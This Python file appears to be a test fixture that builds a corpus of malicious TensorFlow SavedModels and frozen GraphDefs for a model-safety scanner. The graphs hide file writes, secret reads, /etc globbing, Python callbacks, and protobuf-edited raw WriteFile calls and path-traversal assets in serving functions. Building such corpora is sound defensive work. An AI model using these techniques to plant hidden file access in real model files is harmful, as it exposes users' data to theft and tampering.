"""TensorFlow graphs that touch files when their serving function runs (or when TF loads them):
SavedModels and frozen GraphDefs built the way an attacker would, with TF's own APIs (tf.io.write_file
in every place a function can hide: nested functions, cond/case branches, while bodies, control
dependencies) and by editing the protobuf where the API would not write what the attacker wants
(a call of a raw op by name, an asset path that leaves the folder)."""
from __future__ import annotations

import os
from pathlib import Path

from tests.attacks.build_corpus import Attack

SECRET = "TOP-SECRET-graph-exfil-7f3a"


def _tf():
    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
    import tensorflow as tf

    tf.get_logger().setLevel("ERROR")
    return tf


def _save(tf, out: Path, name: str, fn, spec=None) -> Path:
    """A tf.Module whose serving_default is ``fn(x)`` on a float32 [None, 4] input."""
    spec = spec or [tf.TensorSpec([None, 4], tf.float32, name="x")]
    module = tf.Module()
    module.serve = tf.function(fn, input_signature=spec, autograph=False)
    path = out / name
    tf.saved_model.save(module, str(path), signatures={"serving_default": module.serve.get_concrete_function()})
    return path


def saved_models(out: Path, marker: str) -> list[Attack]:
    tf = _tf()
    secret = out / "secret.txt"
    secret.write_text(SECRET)
    (out / "records").mkdir(exist_ok=True)
    touch = lambda: tf.io.write_file(marker, "pwned")  # noqa: E731
    attacks = []

    def add(name, fn, spec=None):
        attacks.append(Attack(name, _save(tf, out, name, fn, spec), "unsafe"))

    def plain(x):
        touch()  # automatic control dependencies keep the stateful op in the function
        return {"y": x * 2.0}
    add("sm_write_serving", plain)

    @tf.function(autograph=False)
    def inner(x):
        touch()
        return x + 1.0

    @tf.function(autograph=False)
    def middle(x):
        return inner(x) * 2.0
    add("sm_write_nested_function", lambda x: {"y": middle(x)})

    def branch(x):
        with tf.control_dependencies([touch()]):
            return tf.identity(x)
    add("sm_write_cond_branch", lambda x: {"y": tf.cond(tf.reduce_sum(x) > -1e9, lambda: branch(x), lambda: x)})
    add("sm_write_case_branch", lambda x: {"y": tf.switch_case(tf.constant(1), [lambda: x, lambda: branch(x)])})

    def loop(x):
        def body(i, acc):
            with tf.control_dependencies([touch()]):
                return i + 1, acc + 1.0
        return {"y": tf.while_loop(lambda i, acc: i < 2, body, [tf.constant(0), x])[1]}
    add("sm_write_while_body", loop)

    def control_only(x):
        with tf.control_dependencies([touch()]):
            return {"y": tf.identity(x)}
    add("sm_write_control_dependency", control_only)

    add("sm_read_file_exfil", lambda x: {"y": x, "leak": tf.io.read_file(str(secret))})
    add("sm_copy_secret_to_marker", lambda x: (tf.io.write_file(marker, tf.io.read_file(str(secret))), {"y": x})[1])
    add("sm_matching_files", lambda x: {"y": x, "files": tf.io.matching_files("/etc/*")})
    add("sm_py_function", lambda x: {"y": tf.py_function(lambda t: (open(marker, "w").write("pwned"), t)[1], [x], tf.float32)})
    add("sm_numpy_function", lambda x: {"y": tf.numpy_function(lambda t: (open(marker, "w").write("pwned"), t)[1], [x], tf.float32)})

    def printer(x):
        tf.print("pwned", output_stream=f"file://{marker}")
        return {"y": x}
    add("sm_print_to_file", printer)

    def summary(x):
        writer = tf.raw_ops.SummaryWriter(shared_name="w", container="")
        create = tf.raw_ops.CreateSummaryFileWriter(writer=writer, logdir=str(Path(marker).parent), max_queue=1, flush_millis=1,
                                                    filename_suffix=Path(marker).name)
        with tf.control_dependencies([create]):
            return {"y": tf.identity(x)}
    add("sm_summary_writer", summary)

    with tf.io.TFRecordWriter(str(out / "records" / "r.tfrecord")) as writer:
        writer.write(SECRET.encode())
    add("sm_tfrecord_dataset", lambda x: {"y": x, "rec": tf.data.TFRecordDataset(str(out / "records" / "r.tfrecord")).get_single_element()})
    mapped = lambda: tf.raw_ops.ImmutableConst(dtype=tf.float32, shape=[1], memory_region_name=str(secret))  # noqa: E731
    add("sm_immutable_const", lambda x: {"y": x + tf.reduce_sum(mapped())})

    def restore_elsewhere(x):
        other = tf.raw_ops.RestoreV2(prefix=str(out / "other" / "variables"), tensor_names=["w"], shape_and_slices=[""],
                                     dtypes=[tf.float32])[0]
        return {"y": x + other}
    add("sm_restore_from_elsewhere", restore_elsewhere)

    def table_from_path(x):
        table = tf.raw_ops.HashTableV2(key_dtype=tf.int64, value_dtype=tf.string, shared_name="t")
        init = tf.raw_ops.InitializeTableFromTextFileV2(table_handle=table, filename=str(secret), key_index=-1, value_index=-2)
        with tf.control_dependencies([init]):
            return {"y": x, "line": tf.raw_ops.LookupTableFindV2(table_handle=table, keys=tf.constant([0], tf.int64), default_value="")}
    add("sm_table_from_constant_path", table_from_path)
    return attacks


def edited(out: Path, marker: str) -> list[Attack]:
    """Protobuf edits the API would not make: a call of a raw op by name, an asset that leaves the folder."""
    tf = _tf()
    from tensorflow.core.framework import attr_value_pb2

    base = _save(tf, out, "sm_call_raw_op_by_name", lambda x: {"y": x * 3.0})
    proto_path = base / "saved_model.pb"
    from tensorflow.core.protobuf import saved_model_pb2

    proto = saved_model_pb2.SavedModel.FromString(proto_path.read_bytes())
    function = next(f for f in proto.meta_graphs[0].graph_def.library.function if any(n.op == "Mul" for n in f.node_def))
    for name, value in (("name", marker), ("data", "pwned")):
        const = function.node_def.add(name=f"evil_{name}", op="Const")
        const.attr["dtype"].type = tf.string.as_datatype_enum
        const.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(value))
    call = function.node_def.add(name="evil_call", op="PartitionedCall", input=["evil_name:output:0", "evil_data:output:0"])
    call.attr["f"].CopyFrom(attr_value_pb2.AttrValue(func=attr_value_pb2.NameAttrList(name="WriteFile")))
    call.attr["Tin"].list.type.extend([tf.string.as_datatype_enum] * 2)
    call.attr["Tout"].list.SetInParent()
    proto_path.write_bytes(proto.SerializeToString())

    class Vocab(tf.Module):
        def __init__(self, path):
            index = tf.lookup.TextFileIndex
            initializer = tf.lookup.TextFileInitializer(str(path), tf.string, index.WHOLE_LINE, tf.int64, index.LINE_NUMBER)
            self.table = tf.lookup.StaticHashTable(initializer, -1)

        @tf.function(input_signature=[tf.TensorSpec([None], tf.string, name="words")])
        def serve(self, words):
            return {"ids": self.table.lookup(words)}

    vocab = out / "vocab.txt"
    vocab.write_text("a\nb\n")
    module = Vocab(vocab)
    traversal = out / "sm_asset_traversal"
    tf.saved_model.save(module, str(traversal), signatures={"serving_default": module.serve})
    proto = saved_model_pb2.SavedModel.FromString((traversal / "saved_model.pb").read_bytes())
    proto.meta_graphs[0].asset_file_def[0].filename = "../../secret.txt"
    (traversal / "saved_model.pb").write_bytes(proto.SerializeToString())
    absolute = out / "sm_asset_absolute_path"
    tf.saved_model.save(module, str(absolute), signatures={"serving_default": module.serve})
    proto = saved_model_pb2.SavedModel.FromString((absolute / "saved_model.pb").read_bytes())
    proto.meta_graphs[0].asset_file_def[0].filename = str(out / "secret.txt")
    (absolute / "saved_model.pb").write_bytes(proto.SerializeToString())
    return [Attack("sm_call_raw_op_by_name", base, "unsafe"), Attack("sm_asset_traversal", traversal, "unsafe"),
            Attack("sm_asset_absolute_path", absolute, "unsafe")]


def frozen(out: Path, marker: str) -> list[Attack]:
    """GraphDefs as tf.io.write_graph would write them: placeholders in, an output, a WriteFile hung on it."""
    tf = _tf()
    from tensorflow.core.framework import graph_pb2

    def graph(name: str, evil_op: str, evil_inputs: dict[str, str], extra_attrs: dict | None = None) -> Attack:
        g = graph_pb2.GraphDef()
        x = g.node.add(name="x", op="Placeholder")
        x.attr["dtype"].type = tf.float32.as_datatype_enum
        x.attr["shape"].shape.CopyFrom(tf.TensorShape([None, 4]).as_proto())
        names = []
        for arg, value in evil_inputs.items():
            const = g.node.add(name=f"c_{arg}", op="Const")
            const.attr["dtype"].type = tf.string.as_datatype_enum
            const.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(value))
            names.append(const.name)
        evil = g.node.add(name="evil", op=evil_op, input=names)
        for key, value in (extra_attrs or {}).items():
            evil.attr[key].CopyFrom(value)
        y = g.node.add(name="y", op="Identity", input=["x", "^evil"])
        y.attr["T"].type = tf.float32.as_datatype_enum
        path = out / name
        path.write_bytes(g.SerializeToString())
        return Attack(name, path, "unsafe")

    return [graph("pb_write_file_control_dep.pb", "WriteFile", {"filename": marker, "contents": "pwned"}),
            graph("pb_matching_files.pb", "MatchingFiles", {"pattern": "/etc/*"}),
            graph("pb_read_file_control_dep.pb", "ReadFile", {"filename": str(out / "secret.txt")})]


def build(out: Path, marker: str, benign: Path) -> list[Attack]:
    out.mkdir(parents=True, exist_ok=True)
    return saved_models(out, marker) + edited(out, marker) + frozen(out, marker)
